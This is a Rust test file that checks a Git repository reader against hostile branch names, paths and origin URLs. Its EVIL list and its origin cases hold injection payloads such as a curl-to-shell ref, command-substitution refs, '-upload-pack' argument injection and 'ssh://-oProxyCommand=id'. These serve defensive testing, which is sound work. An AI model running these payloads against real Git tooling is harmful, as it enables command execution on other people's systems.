//! What is read of real repositories, evil refs included.

#![expect(clippy::unwrap_used, reason = "a test may panic")]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use tempfile::TempDir;
use towline_domain::filter::ChangedFiles;
use towline_domain::names::{CommitSha, GitRef, RepositoryId, RepositoryName};
use towline_ports::source::{Admission, Repositories};
use towline_ports::{Relation, RepositoryRef, Source};

use crate::*;

/// INVARIANTS 2.4: refs that Git allows and shells do not forgive.
const EVIL: [&str; 23] = [
    "a$(curl${IFS}evil.sh|sh)",
    "x;id",
    "x`id`",
    "x&&id",
    "x|sh",
    "x'y",
    "x\"y",
    "x{a,b}",
    "x#y",
    "x%0a",
    "x<y>",
    "x=y",
    "${{github.token}}",
    "{{x}}",
    "!!python",
    "null",
    "yes",
    "@",
    "HEAD",
    "refs/heads/x",
    "-upload-pack=touch",
    "--help",
    "a\u{202e}b",
];

/// A folder with a repository `origin` in it.
struct World {
    dir: TempDir,
}

impl World {
    fn new() -> Self {
        let dir = TempDir::new().unwrap();
        let world = Self { dir };
        fs::create_dir(world.origin()).unwrap();
        world.git(&["init", "-q", "-b", "main"]);
        world
    }

    fn origin(&self) -> PathBuf {
        self.dir.path().join("origin")
    }

    fn git(&self, arguments: &[&str]) -> String {
        let output = Command::new("git")
            .current_dir(self.origin())
            .args(["-c", "user.name=Ada L", "-c", "user.email=ada@example.com"])
            .args(["-c", "commit.gpgSign=false", "-c", "tag.gpgSign=false"])
            .env_clear()
            .env("PATH", env!("PATH"))
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_COMMITTER_DATE", "2026-01-02T03:04:05Z")
            .args(arguments)
            .output()
            .unwrap();
        assert!(output.status.success(), "git {arguments:?}: {output:?}");
        String::from_utf8(output.stdout).unwrap().trim().to_owned()
    }

    fn write(&self, path: &str, content: &str) {
        let path = self.origin().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    }

    fn commit(&self, message: &str) -> CommitSha {
        self.git(&["add", "-A"]);
        self.git(&["commit", "-q", "--allow-empty", "-m", message]);
        self.git(&["rev-parse", "HEAD"]).parse().unwrap()
    }

    fn source(&self) -> GitSource {
        open(
            self.dir.path(),
            vec![registered("acme/shop", &self.origin())],
        )
        .unwrap()
    }

    fn repository(&self) -> RepositoryRef {
        RepositoryRef {
            id: local_id(&self.origin()).unwrap(),
            name: name("acme/shop"),
        }
    }
}

fn open(dir: &Path, repositories: Vec<Registered>) -> Result<GitSource, OpenError> {
    let surroundings = Surroundings {
        search_path: env!("PATH").into(),
        home: None,
    };
    GitSource::open(&dir.join("data"), &surroundings, repositories)
}

fn registered(text: &str, path: &Path) -> Registered {
    Registered {
        name: name(text),
        origin: Origin::Path(path.to_owned()),
    }
}

fn name(text: &str) -> RepositoryName {
    text.parse().unwrap()
}

#[tokio::test]
async fn files_are_read_at_the_commit_and_nothing_else_is() {
    let world = World::new();
    world.write(".towline.yml", "one");
    world.write("sub/file", "in a folder");
    world.write("*", "a star");
    let first = world.commit("first");
    world.write(".towline.yml", "two");
    std::os::unix::fs::symlink("/etc/passwd", world.origin().join("link")).unwrap();
    std::os::unix::fs::symlink("sub", world.origin().join("linked")).unwrap();
    let second = world.commit("second");
    let (source, repository) = (world.source(), world.repository());
    let read = async |commit: &CommitSha, path: &str| {
        let bytes = source.file(&repository, commit, path, 100).await.unwrap();
        bytes.map(|bytes| String::from_utf8(bytes).unwrap())
    };
    for (commit, path, expected) in [
        (&first, ".towline.yml", Some("one")),
        (&second, ".towline.yml", Some("two")),
        (&second, "sub/file", Some("in a folder")),
        (&second, "*", Some("a star")),
        (&second, "link", None),
        (&second, "linked/file", None),
        (&second, "sub", None),
        (&second, "sub/", None),
        (&second, "absent", None),
        (&second, "../origin/.towline.yml", None),
        (&second, "/etc/passwd", None),
        (&second, "--help", None),
        (&second, ":(top)sub/file", None),
        (&second, "", None),
    ] {
        assert_eq!(read(commit, path).await.as_deref(), expected, "{path:?}");
    }
    let unknown: CommitSha = "f".repeat(40).parse().unwrap();
    assert_eq!(read(&unknown, ".towline.yml").await, None);
    let refused = source.file(&repository, &second, "sub/file", 5).await;
    let cause = std::error::Error::source(&refused.unwrap_err())
        .unwrap()
        .to_string();
    assert_eq!(cause, "it has 11 bytes, at most 5 are taken");
}

#[tokio::test]
async fn a9_heads_of_evil_refs_are_their_own() {
    let world = World::new();
    let tree = {
        world.commit("first");
        world.git(&["rev-parse", "HEAD^{tree}"])
    };
    let mut expected = Vec::new();
    for branch in EVIL {
        let commit = world.git(&["commit-tree", "-m", branch, &tree]);
        world.git(&["update-ref", &format!("refs/heads/{branch}"), &commit]);
        expected.push((branch, commit));
    }
    let (source, repository) = (world.source(), world.repository());
    for (branch, commit) in expected {
        let git_ref = GitRef::Branch(branch.into());
        let head = source.head(&repository, &git_ref).await.unwrap();
        assert_eq!(
            head.map(|head| head.to_string()),
            Some(commit),
            "{branch:?}"
        );
    }
}

#[tokio::test]
async fn a12_a_ref_is_itself_and_never_an_expression() {
    let world = World::new();
    let first = world.commit("first");
    world.git(&["tag", "-a", "-m", "release", "v1"]);
    world.git(&["tag", "main"]);
    let second = world.commit("second");
    world.git(&["branch", "topic/one", "refs/heads/main"]);
    let blob = world.git(&["hash-object", "-w", "/dev/null"]);
    world.git(&["update-ref", "refs/tags/blob", &blob]);
    let (source, repository) = (world.source(), world.repository());
    for (git_ref, expected) in [
        ("refs/heads/main", Some(&second)),
        ("refs/tags/main", Some(&first)),
        ("refs/tags/v1", Some(&first)),
        ("refs/tags/blob", None),
        ("refs/heads/v1", None),
        ("refs/heads/topic", None),
        ("refs/heads/main~1", None),
        ("refs/heads/main^{tree}", None),
        ("refs/heads/*", None),
        ("refs/heads/main:sub", None),
    ] {
        let git_ref: GitRef = git_ref.parse().unwrap();
        let head = source.head(&repository, &git_ref).await.unwrap();
        assert_eq!(head.as_ref(), expected, "{git_ref}");
    }
    world.git(&["checkout", "-q", "--detach", "refs/heads/main"]);
    world.git(&["branch", "-q", "-D", "topic/one"]);
    world.git(&["branch", "-q", "topic", "refs/heads/main"]);
    let topic = GitRef::Branch("topic".into());
    assert_eq!(
        source.head(&repository, &topic).await.unwrap(),
        Some(second)
    );
}

#[tokio::test]
async fn commits_relate_and_differ_even_after_a_forced_push() {
    let world = World::new();
    world.write("a", "1");
    let first = world.commit("first");
    world.write("b\n\u{e9}", "1");
    world.git(&["mv", "a", "c"]);
    let second = world.commit("second");
    world.git(&["reset", "-q", "--hard", first.as_str()]);
    let other = world.commit("other");
    let (source, repository) = (world.source(), world.repository());
    let unknown: CommitSha = "f".repeat(40).parse().unwrap();
    for (one, two, expected) in [
        (&first, &first, Relation::Same),
        (&first, &second, Relation::Behind),
        (&second, &first, Relation::Ahead),
        (&second, &other, Relation::Diverged),
        (&second, &unknown, Relation::Diverged),
    ] {
        let relation = source.relation(&repository, one, two).await.unwrap();
        assert_eq!(relation, expected, "{one} {two}");
    }
    let changed = async |base| source.changed_files(&repository, base, &second).await;
    assert_eq!(
        changed(&first).await.unwrap(),
        ChangedFiles::Known(vec!["a".into(), "b\n\u{e9}".into(), "c".into()])
    );
    assert!(matches!(
        changed(&unknown).await.unwrap(),
        ChangedFiles::Unknown(_)
    ));
}

#[tokio::test]
async fn too_many_changed_files_are_unknown() {
    let world = World::new();
    let first = world.commit("first");
    for number in 0..=10_000 {
        fs::write(world.origin().join(format!("f{number}")), "").unwrap();
    }
    let second = world.commit("many");
    let (source, repository) = (world.source(), world.repository());
    let changed = source.changed_files(&repository, &first, &second).await;
    assert_eq!(
        changed.unwrap(),
        ChangedFiles::Unknown("more than 10000 files changed".into())
    );
}

#[tokio::test]
async fn a10_a_commit_tells_its_title_author_and_time() {
    let world = World::new();
    let message = format!(
        "fix $(id) cart\u{1b}[31m\n\ncommands:\n{}",
        "x".repeat(100_000)
    );
    let commit = world.commit(&message);
    let info = world
        .source()
        .commit(&world.repository(), &commit)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(info.title.display(), "fix $(id) cart\u{fffd}[31m");
    assert_eq!(info.author.display(), "Ada L");
    assert_eq!(info.at.to_string(), "2026-01-02T03:04:05Z");
}

#[tokio::test]
async fn a_new_commit_is_fetched_once_it_is_asked_for() {
    let world = World::new();
    world.commit("first");
    let (source, repository) = (world.source(), world.repository());
    let main = GitRef::Branch("main".into());
    source.head(&repository, &main).await.unwrap();
    world.write("late", "yes");
    let late = world.commit("late");
    let asked: Vec<_> = (0..4)
        .map(|_| source.file(&repository, &late, "late", 10))
        .collect();
    for answer in asked {
        assert_eq!(answer.await.unwrap().as_deref(), Some(b"yes".as_slice()));
    }
    let mirror = source.mirror_path(repository.id).unwrap();
    let found = source.mirror_with(&repository, &late).await.unwrap();
    assert_eq!(found, Some(mirror.clone()));
    // A lock that a killed command left behind does not outlive the process that it belonged to.
    fs::write(mirror.join("packed-refs.lock"), "").unwrap();
    drop(source);
    let source = world.source();
    world.git(&["branch", "-q", "-m", "main", "trunk"]);
    assert_eq!(source.head(&repository, &main).await.unwrap(), None);
}

#[tokio::test]
async fn a7_a8_an_id_is_bound_once_and_for_good() {
    let world = World::new();
    let id = RepositoryId;
    let repositories = || {
        vec![
            registered("acme/shop", &world.origin()),
            Registered {
                name: name("acme/other"),
                origin: "https://git.example.com/acme/other.git".parse().unwrap(),
            },
        ]
    };
    let local = world.repository();
    let source = open(world.dir.path(), repositories()).unwrap();
    assert_eq!(source.repositories().await.unwrap(), vec![local]);
    let reopened = || open(world.dir.path(), repositories()).unwrap();
    let claims = [
        (7, "attacker/repo", Admission::Unknown),
        (7, "acme/shop", Admission::Admitted),
        (7, "Acme/Shop", Admission::Admitted),
        // Made anew under the old name.
        (8, "acme/shop", Admission::Impostor { known: id(7) }),
        // Renamed to a name that is registered for another repository.
        (7, "acme/other", Admission::Impostor { known: id(7) }),
    ];
    for source in [source, reopened(), reopened()] {
        for (id, claimed, expected) in claims {
            let claim = RepositoryRef {
                id: RepositoryId(id),
                name: name(claimed),
            };
            let admission = source.admit(&claim).await.unwrap();
            assert_eq!(admission, expected, "{id} {claimed}");
        }
        let bound = RepositoryRef {
            id: id(7),
            name: name("acme/shop"),
        };
        assert_eq!(source.repositories().await.unwrap(), vec![bound]);
    }
    let source = reopened();
    let stranger = RepositoryRef {
        id: RepositoryId(99),
        name: name("acme/shop"),
    };
    let commit = "f".repeat(40).parse().unwrap();
    let refused = source.file(&stranger, &commit, "x", 1).await.unwrap_err();
    assert_eq!(
        refused.to_string(),
        "acme/shop (id 99) is not registered here"
    );
}

#[tokio::test]
async fn a_repository_that_is_no_repository_says_so() {
    let world = World::new();
    let empty = world.dir.path().join("empty");
    fs::create_dir(&empty).unwrap();
    let source = open(world.dir.path(), vec![registered("acme/empty", &empty)]).unwrap();
    let repository = source.repositories().await.unwrap().remove(0);
    let main = GitRef::Branch("main".into());
    let error = source.head(&repository, &main).await.unwrap_err();
    assert_eq!(error.to_string(), "fetching acme/empty");
    let cause = std::error::Error::source(&error).unwrap().to_string();
    assert!(
        cause.contains("does not appear to be a git repository"),
        "{cause}"
    );
}

#[test]
fn repositories_are_registered_once_and_exist() {
    let world = World::new();
    let refused = |repositories| {
        open(world.dir.path(), repositories)
            .err()
            .unwrap()
            .to_string()
    };
    let origin = world.origin();
    let twice = vec![registered("a/b", &origin), registered("A/B", &origin)];
    assert!(refused(twice).contains("A/B is registered twice"));
    let absent = vec![registered("a/b", &origin.join("absent"))];
    assert_eq!(refused(absent), "opening the repository a/b");
}

#[test]
fn a24_origins_are_folders_or_addresses_without_secrets() {
    for good in [
        "https://git.example.com/a/b.git",
        "ssh://git@git.example.com:22/a/b",
    ] {
        assert_eq!(good.parse(), Ok(Origin::Url(good.into())));
    }
    assert_eq!("../shop".parse(), Ok(Origin::Path("../shop".into())));
    for (bad, expected) in [
        ("", "is not fetched from"),
        ("ext::sh -c id://x", "is not fetched from"),
        ("http://git.example.com/a", "is not fetched from"),
        ("file:///etc", "is not fetched from"),
        ("ssh://-oProxyCommand=id/a", "is not fetched from"),
        ("ssh://git@-oProxyCommand=id/a", "is not fetched from"),
        ("https://git.example.com/a\nb", "control character"),
        (
            "https://me:secret@git.example.com/a",
            "the address of git.example.com holds a password",
        ),
    ] {
        let error = bad.parse::<Origin>().unwrap_err().to_string();
        assert!(error.contains(expected), "{bad}: {error}");
        assert!(!error.contains("secret"), "{error}");
    }
}
